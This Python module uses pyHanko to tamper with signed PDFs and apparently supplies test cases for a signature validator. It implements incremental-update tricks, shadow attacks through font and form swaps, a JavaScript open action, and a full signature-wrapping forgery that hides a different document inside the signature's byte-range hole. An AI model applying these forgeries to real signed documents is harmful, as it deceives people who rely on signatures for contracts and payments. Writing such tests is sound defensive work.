"""Ways to tamper with a signed PDF."""

import re
from collections.abc import Callable
from io import BytesIO

from asn1crypto import parser
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

Change = Callable[[IncrementalPdfFileWriter], None]
NAME = generic.NameObject


def gap_of(signed: bytes) -> tuple[int, int]:
    """Return where the hole for the last signature begins and ends."""
    ranges = re.findall(rb"/ByteRange \[0 (\d+) (\d+) \d+\]", signed)
    return int(ranges[-1][0]), int(ranges[-1][1])


def updated(signed: bytes, change: Change) -> bytes:
    """Append an incremental update: the old bytes stay, readers see the new objects."""
    stream = BytesIO(signed)
    writer = IncrementalPdfFileWriter(stream)
    change(writer)
    writer.write_in_place()
    return stream.getvalue()


def _page(writer: IncrementalPdfFileWriter) -> generic.DictionaryObject:
    page: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0]
    writer.update_container(page)
    return page


def replace_page(writer: IncrementalPdfFileWriter) -> None:
    """Show another text on the first page."""
    text = generic.StreamObject(stream_data=b"BT /F1+0 12 Tf 72 700 Td (forged 99999.00) Tj ET")
    _page(writer)[NAME("/Contents")] = writer.add_object(text)


def add_content(writer: IncrementalPdfFileWriter) -> None:
    """Draw over the first page."""
    page = _page(writer)
    extra = writer.add_object(generic.StreamObject(stream_data=b"0 0 500 800 re f"))
    page[NAME("/Contents")] = generic.ArrayObject([page.raw_get("/Contents"), extra])


def add_annotation(writer: IncrementalPdfFileWriter) -> None:
    """Put a note over the first page."""
    note = generic.DictionaryObject(
        {
            NAME("/Type"): NAME("/Annot"),
            NAME("/Subtype"): NAME("/Square"),
            NAME("/Rect"): generic.ArrayObject(map(generic.NumberObject, (0, 0, 500, 800))),
        }
    )
    _page(writer)[NAME("/Annots")] = generic.ArrayObject([writer.add_object(note)])


def drop_page(writer: IncrementalPdfFileWriter) -> None:
    """Take the last page away."""
    pages = writer.root["/Pages"]
    pages[NAME("/Kids")] = generic.ArrayObject(list(pages["/Kids"])[:1])
    pages[NAME("/Count")] = generic.NumberObject(1)
    writer.update_container(pages)


def add_script(writer: IncrementalPdfFileWriter) -> None:
    """Let something happen when the file is opened."""
    writer.root[NAME("/OpenAction")] = generic.DictionaryObject(
        {NAME("/S"): NAME("/JavaScript"), NAME("/JS"): generic.TextStringObject("app.alert(1)")}
    )
    writer.update_root()


def change_title(writer: IncrementalPdfFileWriter) -> None:
    """Change the document information only."""
    info = writer.trailer["/Info"]
    info[NAME("/Title")] = generic.TextStringObject("forged")
    writer.update_container(info)


def drop_form(writer: IncrementalPdfFileWriter) -> None:
    """Hide the signature field."""
    del writer.root["/AcroForm"]
    writer.update_root()


def wrapped(signed: bytes) -> bytes:
    """Move the second signed part back and put a whole other document into the hole.

    The signed bytes, and so the hash, stay; the old `startxref` now points into the hole. The
    length of the signature string is chosen so that a check of lengths alone is content.
    """
    start, end = gap_of(signed)
    tail = signed[end:]
    table_at = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    padded = bytes.fromhex(signed[start + 1 : end - 1].decode("ascii"))
    signature = padded[: parser.peek(padded)].ljust(6000, b"\0")
    hole = 2 * len(signature) + 2
    escaped = re.sub(rb"([()\\])", rb"\\\1", signature).replace(b"\r", b"\\r")
    dictionary = (
        b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /ETSI.CAdES.detached"
        b" /M (D:20261102093015+08'00') /ByteRange [0 %d %d %d] /Contents (%s) >>"
        % (start, start + hole, len(tail), escaped)
    )
    body = bytearray(b"\n")
    offsets = []
    for number, content in enumerate(
        (
            b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] /SigFlags 3 >> >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
            b" /Annots [5 0 R] >>",
            b"<< /Length 21 >>\nstream\n1 0 0 rg 9 9 99 99 re\nendstream",
            b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (Signature1) /V 6 0 R"
            b" /Rect [0 0 0 0] /P 3 0 R >>",
        ),
        1,
    ):
        offsets.append(start + len(body))
        body += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    body = body.ljust(table_at - start)
    entry = b"%010d 00000 n \n"
    trailer = b"trailer\n<< /Root 1 0 R /Size 7 >>\n"
    table = b"xref\n0 7\n0000000000 65535 f \n" + b"".join(entry % each for each in offsets)
    offsets.append(table_at + len(table) + len(entry % 0) + len(trailer))
    body += table + entry % offsets[-1] + trailer
    body += b"6 0 obj\n%s\nendobj\n" % dictionary
    assert len(body) <= hole
    return signed[:start] + bytes(body).ljust(hole) + tail


def _fields(writer: IncrementalPdfFileWriter) -> list[generic.DictionaryObject]:
    return [reference.get_object() for reference in writer.root["/AcroForm"]["/Fields"]]


def change_seal(writer: IncrementalPdfFileWriter) -> None:
    """Paint another seal over a signature."""
    field = _fields(writer)[0]
    box = generic.ArrayObject(map(generic.NumberObject, (0, 0, 90, 90)))
    picture = generic.StreamObject(
        {NAME("/Type"): NAME("/XObject"), NAME("/Subtype"): NAME("/Form"), NAME("/BBox"): box},
        stream_data=b"0 1 0 rg 0 0 90 90 re f",
    )
    field[NAME("/AP")] = generic.DictionaryObject({NAME("/N"): writer.add_object(picture)})
    writer.update_container(field)


def swap_values(writer: IncrementalPdfFileWriter) -> None:
    """Let the first field show what the last one signed."""
    first, *_, last = _fields(writer)
    signed = [field for field in (first, last) if "/V" in field]
    first[NAME("/V")] = signed[-1].raw_get("/V")
    first[NAME("/T")], last[NAME("/T")] = last["/T"], first["/T"]
    writer.update_container(first)
    writer.update_container(last)


def move_field(writer: IncrementalPdfFileWriter) -> None:
    """Move a seal to another place."""
    field = _fields(writer)[0]
    field[NAME("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (300, 600, 500, 800)))
    writer.update_container(field)


def rename_field(writer: IncrementalPdfFileWriter) -> None:
    """Give a signature's field another name."""
    field = _fields(writer)[0]
    field[NAME("/T")] = generic.TextStringObject("Signature9")
    writer.update_container(field)


def replace_font(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack: the same text in a font whose glyphs show something else."""
    fonts = _page(writer)["/Resources"]["/Font"]
    font = generic.DictionaryObject(
        {
            NAME("/Type"): NAME("/Font"),
            NAME("/Subtype"): NAME("/Type1"),
            NAME("/BaseFont"): NAME("/ZapfDingbats"),
        }
    )
    fonts[NAME(next(iter(fonts)))] = writer.add_object(font)
    writer.update_container(fonts)


def replace_form(writer: IncrementalPdfFileWriter) -> None:
    """Shadow attack: another form with another field lies over the page."""
    field = generic.DictionaryObject(
        {
            NAME("/Type"): NAME("/Annot"),
            NAME("/Subtype"): NAME("/Widget"),
            NAME("/FT"): NAME("/Tx"),
            NAME("/T"): generic.TextStringObject("total"),
            NAME("/V"): generic.TextStringObject("99999.00"),
            NAME("/Rect"): generic.ArrayObject(map(generic.NumberObject, (70, 690, 400, 720))),
        }
    )
    reference = writer.add_object(field)
    _page(writer).setdefault(NAME("/Annots"), generic.ArrayObject()).append(reference)
    fields = writer.root["/AcroForm"]["/Fields"]
    fields.append(reference)
    writer.update_container(fields)


def repeat_signature(writer: IncrementalPdfFileWriter) -> None:
    """Let a second field show the signature of the first."""
    fields = writer.root["/AcroForm"]["/Fields"]
    copy = generic.DictionaryObject(dict(fields[0].get_object()))
    copy[NAME("/T")] = generic.TextStringObject("Signature9")
    fields.append(writer.add_object(copy))
    writer.update_container(fields)
